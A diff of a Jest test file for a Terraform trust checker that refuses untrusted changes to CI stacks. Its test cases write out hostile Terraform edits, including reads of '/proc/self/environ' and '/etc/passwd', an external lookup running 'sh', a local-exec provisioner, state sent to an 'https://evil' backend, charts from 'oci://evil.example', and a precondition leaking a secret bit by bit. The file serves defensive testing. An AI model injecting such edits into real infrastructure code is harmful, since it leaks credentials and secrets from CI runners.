@@ -1,86 +1,194 @@
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { parseConfig } from "../../../modules/load-config";
 import { readSynthesized, type TerraformJson } from "../../../operations/synthesized";
-import { foreignParts, mistrust } from "../../../operations/terraform/trust";
+import { baseStacks, foreignParts, trusted } from "../../../operations/terraform/trust";
+import { RESOURCES } from "../../../operations/terraform/trust-kinds";
 import { synthesize } from "../../../stacks/app";
-import { minimal, scenario, scenarioNames, synthesize as templatesOf } from "../../support/project";
+import type { StackId } from "../../../modules/contract/outputs";
+import { CERTIFICATE } from "../../support/certificate";
+import { EVERYTHING, minimal, scenario, scenarioNames, synthesize as templatesOf } from "../../support/project";
 
-const { dagger } = templatesOf(minimal()).stacks;
-/** The template with something else at a path. */
-function changed(path: readonly (string | number)[], value: unknown): TerraformJson {
-  const copy = JSON.parse(JSON.stringify(dagger)) as TerraformJson;
-  let here = copy as Record<string | number, unknown>;
-  for (const key of path.slice(0, -1)) here = here[key] as Record<string | number, unknown>;
-  here[path.at(-1)!] = value;
-  return copy;
-}
-const [release] = Object.keys(dagger.resource!.helm_release!);
+type Stack = Record<string, Record<string, Record<string, Record<string, unknown>>>>;
+const ACCOUNT = 'account: "111122223333"\n';
+const base = templatesOf(minimal(ACCOUNT)).stacks;
+const copy = (template: TerraformJson) => JSON.parse(JSON.stringify(template)) as TerraformJson & Stack;
+const first = (named: Record<string, Record<string, unknown>>) => Object.values(named)[0]!;
+const parts = (name: StackId, change: (template: Stack) => void): string => {
+  const template = copy(base[name]);
+  change(template);
+  return foreignParts(name, template, base[name]).join("\n");
+};
+const GUEST = `name: ci-guest
+region: eu-west-1
+github: {organization: acme, secret: s, server: {url: "https://github.acme.example", certificate: ${JSON.stringify(CERTIFICATE)}}}
+cluster: {mode: existing, name: platform, supportNodes: {securityGroupId: sg-0123456789abcdef0}}
+addons: {summerwind: install}
+network: {mode: existing, vpcId: vpc-0123456789abcdef0, privateSubnetIds: [subnet-0123456789abcdef0, subnet-0123456789abcdef1]}
+`;
+const EVERY = [...scenarioNames.map((name) => scenario(name).stacks), templatesOf(EVERYTHING).stacks, templatesOf(GUEST).stacks];
 
-test.each(scenarioNames)("everything that the project itself writes is trusted: %s", (name) => {
-  for (const template of Object.values(scenario(name).stacks)) expect(foreignParts(template)).toEqual([]);
-});
-
-test("a key of one's own is trusted", () => {
-  const { cluster } = templatesOf(minimal('cluster: {kmsKeyArn: "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"}')).stacks;
-  expect(cluster).toHaveProperty("removed");
-  expect(foreignParts(cluster)).toEqual([]);
-});
-
-test("states in S3 are trusted", () => {
-  const { stacks } = templatesOf(minimal("state: {type: s3, bucket: states, kmsKeyArn: arn:aws:kms:eu-west-1:111122223333:key/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0}\nprofile: p\n"));
-  for (const template of Object.values(stacks)) expect(foreignParts(template)).toEqual([]);
-});
-
-test.each<[string, readonly (string | number)[], unknown, string]>([
-  ["a program that a lookup runs", ["data", "external"], { a: {} }, "data.external"],
-  ["a secret that is looked up", ["data", "aws_secretsmanager_secret_version"], { a: {} }, "data.aws_secretsmanager_secret_version"],
-  ["a provider of somebody else", ["terraform", "required_providers", "x"], { source: "evil/x" }, "provider evil/x"],
-  ["a known name with another source", ["terraform", "required_providers", "aws"], { source: "evil/aws" }, "provider evil/aws"],
-  ["another endpoint", ["provider", "aws", 0, "endpoints"], [{ sts: "https://evil" }], "provider.aws.endpoints"],
-  ["another program for credentials", ["provider", "kubernetes", 0, "exec", 0, "command"], "sh", "program sh"],
-  ["another cluster", ["provider", "helm", 0, "kubernetes", "host"], "https://evil", "cluster address https://evil"],
-  ["a provisioner", ["resource", "aws_x"], { a: { provisioner: [] } }, "resource.aws_x.a.provisioner"],
-  ["a program that renders charts", ["resource", "helm_release", release!, "postrender"], {}, ".postrender"],
-  ["a program when something is forgotten", ["removed"], [{ from: "aws_x.a", provisioner: [] }], "removed.provisioner"],
-  ["a provisioner of Terraform's own kind", ["resource", "terraform_data"], { a: { provisioner: [] } }, "resource.terraform_data.a.provisioner"],
-  ["a module", ["module"], { a: {} }, "block.module"],
-  ["a backend that sends states elsewhere", ["terraform", "backend"], { http: { address: "https://evil" } }, "backend.http.address"],
-])("refused: %s", (_name, path, value, part) => {
-  expect(foreignParts(changed(path, value)).join("\n")).toContain(part);
-});
-
-test.each<[string, string, string | ((text: string) => string)]>([
-  ["another template", "templates/crds.yaml", (text) => `${text}{{ lookup "v1" "Secret" "" "" | toYaml }}`],
-  ["a template more", "templates/more.yaml", ""],
-  ["a chart that is brought along", "charts/gha-runner-scale-set-controller-0.14.2.tgz", "x"],
-  ["a chart from the disk", "Chart.yaml", (text) => text.replace(/"oci:[^"]*"/, '"file:///"')],
-  ["another dependency more", "Chart.yaml", (text) => text.replace('"dependencies": [', '"dependencies": [{"name": "x"},')],
-  ["metadata that nobody can read", "Chart.yaml", "["],
-])("refused in the chart around ARC's: %s", (_name, path, change) => {
-  const outdir = mkdtempSync(join(tmpdir(), "dagger-on-eks-"));
-  try {
-    synthesize(parseConfig(minimal()), outdir);
-    const file = join(outdir, "stacks/addons/charts/gha-runner-scale-set-controller", path);
-    mkdirSync(dirname(file), { recursive: true });
-    writeFileSync(file, typeof change === "string" ? change : change(readFileSync(file, "utf8")));
-    expect(() => mistrust(readSynthesized(outdir), outdir)).toThrow(`addons: file charts/gha-runner-scale-set-controller/${path}`);
-  } finally {
-    rmSync(outdir, { recursive: true });
+test("everything that the project itself writes is taken, against itself as base", () => {
+  for (const stacks of EVERY) {
+    for (const [name, template] of Object.entries(stacks)) expect([name, foreignParts(name as StackId, template, template)]).toEqual([name, []]);
   }
 });
 
-test("a file beside the stack is refused, and what the manifest says does not matter", () => {
-  const outdir = mkdtempSync(join(tmpdir(), "dagger-on-eks-"));
-  try {
+test("the list of resource types and arguments is what the project writes, no more", () => {
+  const written: Record<string, Set<string>> = {};
+  for (const { resource = {} } of EVERY.flatMap((stacks) => Object.values(stacks))) {
+    for (const [type, named] of Object.entries(resource)) {
+      for (const body of Object.values(named)) Object.keys(body).forEach((key) => (written[type] ??= new Set()).add(key));
+    }
+  }
+  const listed = Object.fromEntries(Object.entries(RESOURCES).map(([type, keys]) => [type, [...keys].sort()]));
+  const used = Object.entries(written).map(([type, keys]) => [type, [...keys].filter((key) => key !== "//" && key !== "depends_on").sort()]);
+  expect(Object.fromEntries(used)).toEqual(listed);
+});
+
+test.each<[string, string, StackId]>([
+  ["another size, another idle time", "fleets: [{name: main, nodes: {idleAfter: 1h}, runners: [{cpu: 8, memory: 32Gi, max: 3}]}]", "dagger"],
+  ["one fleet more", "fleets: [{name: main, runners: [{cpu: 2, memory: 8Gi, max: 1}]}, {name: blue, runners: [{cpu: 2, memory: 8Gi, max: 1}]}]", "dagger"],
+  ["a persistent fleet", "fleets: [{name: warm, nodes: {mode: persistent, instanceType: m6id.4xlarge, count: 1}, runners: [{cpu: 2, memory: 8Gi, max: 1}]}]", "dagger"],
+  ["a new chart version", "versions: {karpenter: 1.14.9}", "addons"],
+  ["NAT for each zone", "network: {nat: per-az, flowLogs: all}", "network"],
+  ["administrators and protection", 'cluster: {deletionProtection: false, admins: ["arn:aws:iam::111122223333:role/x"]}', "cluster"],
+])("what a pull request may well change is planned: %s", (_name, yaml, stack) => {
+  expect(foreignParts(stack, templatesOf(minimal(ACCOUNT + yaml)).stacks[stack], base[stack])).toEqual([]);
+});
+
+const FILE = '${file("/proc/self/environ")}';
+const exec = (t: Stack) => (t.provider as unknown as { kubernetes: { exec: Record<string, unknown>[] }[] }).kubernetes[0]!.exec[0]!;
+const aws = (t: Stack) => (t.provider as unknown as { aws: Record<string, unknown>[] }).aws[0]!;
+const secret = (t: Stack) => first(t.resource!.kubernetes_secret_v1!);
+const release = (t: Stack) => first(t.resource!.helm_release!);
+const ofSecret = "ephemeral.aws_secretsmanager_secret_version.github.secret_string";
+
+test.each<[string, (t: Stack) => void, string]>([
+  ["a file in an output", (t) => (t.output!.x = { value: FILE } as never), "output.x"],
+  ["a file in an output of the project", (t) => (t.output!.runs_on = { value: FILE } as never), "function file"],
+  ["a file in the name of a tag", (t) => (secret(t).metadata = { labels: { [FILE]: "x" } }), "function file"],
+  ["a file in a text of a chart's values", (t) => (release(t).values = [`{"a":"${FILE.replaceAll('"', '\\"')}"}`]), "function file"],
+  ["a file in a text inside an expression", (t) => (secret(t).type = '${element([" ${file("/etc/passwd")} "], 0)}'), "resource: expression"],
+  ["a directive", (t) => (secret(t).type = '%{ if true }${file("x")}%{ endif }'), "resource: expression %{"],
+  ["a sign that is escaped twice", (t) => (secret(t).type = '$$${file("x")}'), "resource: expression $$${"],
+  ["a template file", (t) => (secret(t).type = '${templatefile("/etc/passwd", {})}'), "function templatefile"],
+  ["whether a file exists", (t) => (secret(t).type = '${fileexists("/root/.aws")}'), "function fileexists"],
+  ["a secret made public", (t) => (t.output!.runs_on = { value: `\${nonsensitive(${ofSecret})}` } as never), "function nonsensitive"],
+  ["a function of a provider", (t) => (secret(t).type = '${provider::aws::arn_parse("x")}'), "resource: expression ::"],
+  ["where Terraform runs", (t) => (secret(t).type = "${path.cwd}"), "reference to path"],
+  ["a variable", (t) => (secret(t).type = "${var.x}"), "reference to var"],
+  ["another chart repository, with a file in its address", (t) => (t.resource!.helm_release!.x = { name: "x", chart: "x", repository: `https://evil/${FILE}` }), "chart x of https://evil"],
+  ["a known chart from elsewhere", (t) => (release(t).repository = "oci://evil.example"), "of oci://evil.example"],
+  ["a chart of the runner's disk", (t) => (release(t).chart = "./evil"), "chart ./evil"],
+  ["a version that is no version", (t) => (release(t).version = "../../evil"), ".version"],
+  ["credentials for a registry", (t) => (release(t).repository_username = "x"), ".repository_username"],
+  ["a program that renders charts", (t) => (release(t).postrender = {}), ".postrender"],
+  ["a chart that is rendered for a lookup", (t) => (t.data!.helm_template = { evil: { name: "x", chart: "https://evil.example/x.tgz" } }), "data.helm_template.evil: not the base's"],
+  ["a program that a lookup runs", (t) => (t.data!.external = { x: { program: ["sh"] } }), "data.external.x: not the base's"],
+  ["a page that a lookup reads", (t) => (t.data!.http = { x: { url: "https://evil" } }), "data.http.x: not the base's"],
+  ["a lookup in another cluster", (t) => (t.data!.aws_eks_cluster = { x: { name: "payroll" } }), "data.aws_eks_cluster.x: not the base's"],
+  ["another state", (t) => ((t.data!.terraform_remote_state!.cluster!.config as Record<string, unknown>).path = "x"), "data.terraform_remote_state.cluster: not the base's"],
+  ["exec with another profile and a configuration of its own", (t) => Object.assign(exec(t), { args: ["eks", "get-token", "--profile", "evil"], env: { AWS_CONFIG_FILE: "../../../locks/x" } }), "provider: not the base's"],
+  ["exec with another endpoint", (t) => (exec(t).args = ["eks", "get-token", "--endpoint-url", "https://evil"]), "provider: not the base's"],
+  ["another program", (t) => (exec(t).command = "sh"), "provider: not the base's"],
+  ["another cluster's address", (t) => ((t.provider as unknown as { kubernetes: Record<string, unknown>[] }).kubernetes[0]!.host = "https://evil"), "provider: not the base's"],
+  ["a profile", (t) => (aws(t).profile = "evil"), "provider: not the base's"],
+  ["another endpoint of AWS", (t) => (aws(t).endpoints = [{ sts: "https://evil" }]), "provider: not the base's"],
+  ["a proxy of AWS", (t) => (aws(t).http_proxy = "https://evil"), "provider: not the base's"],
+  ["another secret", (t) => (t.ephemeral!.aws_ssm_parameter = { x: { arn: "arn:aws:ssm:eu-west-1:111122223333:parameter/prod" } }), "ephemeral.aws_ssm_parameter.x: not the base's"],
+  ["the same secret under another name", (t) => (t.ephemeral!.aws_secretsmanager_secret_version!.github!.secret_id = "prod"), "ephemeral.aws_secretsmanager_secret_version.github: not the base's"],
+  ["a Lambda function that is invoked", (t) => (t.ephemeral!.aws_lambda_invocation = { x: { function_name: "f", payload: "{}" } }), "ephemeral.aws_lambda_invocation.x: not the base's"],
+  ["a precondition that tells a secret bit by bit", (t) => (secret(t).lifecycle = { precondition: [{ condition: `\${startswith(${ofSecret}, "a")}`, error_message: "a" }] }), "an expression on a secret that is not the base's"],
+  ["another setting of a lifecycle", (t) => (secret(t).lifecycle = { action_trigger: [] }), ".lifecycle.action_trigger"],
+  ["a postcondition that tells a secret", (t) => (secret(t).lifecycle = { postcondition: [{ condition: `\${startswith(${ofSecret}, "b")}`, error_message: "b" }] }), "an expression on a secret that is not the base's"],
+  ["a program when something is forgotten", (t) => (t.removed = [{ from: "aws_x.a", lifecycle: { destroy: false }, provisioner: [] }] as never), "removed[0]"],
+  ["something that is destroyed by a block of its own", (t) => (t.removed = [{ from: "aws_x.a", lifecycle: { destroy: true } }] as never), "removed[0]"],
+  ["a resource that reads a file", (t) => (t.resource!.aws_s3_object = { x: { bucket: "b", key: "k", source: "/proc/self/environ" } }), "resource.aws_s3_object.x"],
+  ["a type that nobody knows", (t) => (t.resource!.null_resource = { x: {} }), "resource.null_resource.x"],
+  ["a provisioner", (t) => (secret(t).provisioner = [{ "local-exec": { command: "id" } }]), ".provisioner"],
+  ["a connection", (t) => (secret(t).connection = { host: "evil" }), ".connection"],
+  ["a count", (t) => (secret(t).count = 0), ".count"],
+  ["another provider for one resource", (t) => (secret(t).provider = "kubernetes.evil"), ".provider"],
+  ["a resource that is written twice", (t) => (t.resource!.kubernetes_secret_v1!.x = [{}, {}] as never), "resource.kubernetes_secret_v1.x"],
+  ["a list of blocks", (t) => ((t as Record<string, unknown>).resource = [{ aws_s3_object: { x: {} } }]), "resource.0.aws_s3_object"],
+  ["a manifest of another kind", (t) => (t.resource!.kubernetes_manifest!.x = { manifest: { apiVersion: "v1", kind: "Secret", metadata: { name: "x" } } }), "kind Secret"],
+  ["manifests out of a text", (t) => (t.resource!.kubernetes_manifest!.x = { for_each: { a: "kind: Secret" }, manifest: "${yamldecode(each.value)}" }), ".for_each"],
+  ["an output that is said not to be sensitive", (t) => (t.output!.runs_on = { value: "x", sensitive: false } as never), "output.runs_on.sensitive"],
+  ["another backend", (t) => ((t.terraform as Record<string, unknown>).backend = { http: { address: "https://evil" } }), "terraform: not the base's"],
+  ["another provider", (t) => ((t.terraform!.required_providers as Record<string, unknown>).x = { source: "evil/x" }), "terraform: not the base's"],
+  ["another source of a known provider", (t) => ((t.terraform!.required_providers!.aws!).source = "evil/aws"), "terraform: not the base's"],
+  ["a module", (t) => (t.module = { a: { source: "https://evil" } } as never), "block.module"],
+  ["an import", (t) => (t.import = [{ to: "aws_vpc.x", id: "vpc-1" }] as never), "block.import"],
+  ["a check", (t) => (t.check = {} as never), "block.check"],
+  ["a file in a local value", (t) => (t.locals = { x: FILE } as never), "locals: function file"],
+])("refused by name: %s", (_name, change, part) => {
+  expect(parts("dagger", change)).toContain(part);
+});
+
+test("what differs from the base is named without its values", () => {
+  expect(parts("dagger", (t) => (aws(t).region = "s3cret-value"))).not.toContain("s3cret-value");
+});
+
+describe("on disk", () => {
+  let outdir: string;
+  const file = (name: string) => join(outdir, "stacks", name, "cdk.tf.json");
+  beforeEach(() => {
+    outdir = mkdtempSync(join(tmpdir(), "dagger-on-eks-"));
     synthesize(parseConfig(minimal()), outdir);
-    expect(() => mistrust(readSynthesized(outdir), outdir)).not.toThrow();
+  });
+  afterEach(() => rmSync(outdir, { recursive: true }));
+  const check = (...names: string[]) => trusted(outdir, readSynthesized(baseFolder), names);
+  const baseFolder = mkdtempSync(join(tmpdir(), "dagger-on-eks-"));
+  beforeAll(() => synthesize(parseConfig(minimal()), baseFolder));
+  afterAll(() => rmSync(baseFolder, { recursive: true }));
+
+  test("files beside a stack, folders that are none of its, and a manifest that leads elsewhere", () => {
+    expect(check().map(({ name }) => name)).toEqual(["network", "cluster", "addons", "dagger"]);
+    writeFileSync(join(outdir, "manifest.json"), JSON.stringify({ stacks: { network: { synthesizedStackPath: "/proc/self/environ" } } }));
+    expect(() => check()).not.toThrow();
+    expect(readSynthesized(outdir).map(({ name }) => name)).toEqual(["network", "cluster", "addons", "dagger"]);
     writeFileSync(join(outdir, "stacks/network/more.tf"), "");
-    const manifest = readFileSync(join(outdir, "manifest.json"), "utf8");
-    writeFileSync(join(outdir, "manifest.json"), manifest.replaceAll('"name": "addons"', '"name": "../../addons"'));
-    expect(() => mistrust(readSynthesized(outdir), outdir)).toThrow(/network: file more\.tf[^]*\.\.\/\.\.\/addons: not a stack of the project/);
-  } finally {
-    rmSync(outdir, { recursive: true });
-  }
+    mkdirSync(join(outdir, "stacks/evil"));
+    expect(() => check()).toThrow(/evil: not a stack of the base\nnetwork: file more\.tf/);
+    expect(() => check("cluster", "payroll")).toThrow(/payroll: not a stack of the base/);
+  });
+
+  test("a link in place of a stack is not followed, and what is no JSON is not shown", () => {
+    writeFileSync(join(outdir, "token"), "s3cret-value");
+    rmSync(file("network"));
+    symlinkSync(join(outdir, "token"), file("network"));
+    writeFileSync(file("cluster"), "s3cret-value");
+    const refused = () => check();
+    expect(refused).toThrow(/network: cdk\.tf\.json is no plain file with JSON\n(.*\n)*cluster: cdk\.tf\.json is no plain file/);
+    expect(refused).not.toThrow(/s3cret/);
+  });
+
+  test("Terraform reads what was checked: a block that is there twice is there once afterwards", () => {
+    const text = readFileSync(file("network"), "utf8");
+    writeFileSync(file("network"), text.replace(/^\{/, `{"output": {"evil": {"value": ${JSON.stringify(FILE)}}},`));
+    check("network");
+    expect(readFileSync(file("network"), "utf8")).not.toContain("/proc/self/environ");
+  });
+
+  test.each<[string, string, string | ((text: string) => string)]>([
+    ["another template", "templates/crds.yaml", (text) => `${text}{{ lookup "v1" "Secret" "" "" | toYaml }}`],
+    ["a template more", "templates/more.yaml", ""],
+    ["a chart that is brought along", "charts/gha-runner-scale-set-controller-0.14.2.tgz", "x"],
+    ["a chart from the disk", "Chart.yaml", (text) => text.replace(/"oci:[^"]*"/, '"file:///"')],
+    ["a chart from elsewhere", "Chart.yaml", (text) => text.replace(/"oci:[^"]*"/, '"oci://evil.example"')],
+    ["another dependency more", "Chart.yaml", (text) => text.replace('"dependencies": [', '"dependencies": [{"name": "x"},')],
+    ["metadata that nobody can read", "Chart.yaml", "["],
+  ])("refused in the chart around ARC's: %s", (_name, path, change) => {
+    const changed = join(outdir, "stacks/addons/charts/gha-runner-scale-set-controller", path);
+    mkdirSync(dirname(changed), { recursive: true });
+    writeFileSync(changed, typeof change === "string" ? change : change(readFileSync(changed, "utf8")));
+    expect(() => check("addons")).toThrow(`addons: file charts/gha-runner-scale-set-controller/${path}`);
+  });
+
+  test("without a base nothing is planned", async () => {
+    await expect(baseStacks(join(outdir, "none"), () => Promise.resolve(""))).rejects.toThrow("not planned, because there is nothing that the stacks could be compared with");
+    await expect(baseStacks(undefined, () => Promise.reject(new Error("dagger-ci.yaml: 1 problem")))).rejects.toThrow("(dagger-ci.yaml: 1 problem)");
+  });
 });
